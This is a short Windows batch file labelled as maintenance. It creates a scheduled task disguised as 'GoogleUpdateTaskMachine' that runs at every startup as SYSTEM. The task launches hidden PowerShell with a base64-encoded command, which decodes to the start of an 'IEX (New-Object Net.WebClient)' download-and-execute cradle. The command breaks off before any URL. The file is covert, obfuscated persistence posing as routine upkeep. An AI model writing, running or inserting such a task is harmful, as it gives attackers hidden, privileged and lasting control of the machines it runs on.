REM maintenance 9257 v0
@echo off
set "cnfq=schtasks /create /tn "GoogleUpdateTaskMachine" /tr "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /sc onstart /ru SYSTEM /f"
call %cnfq%
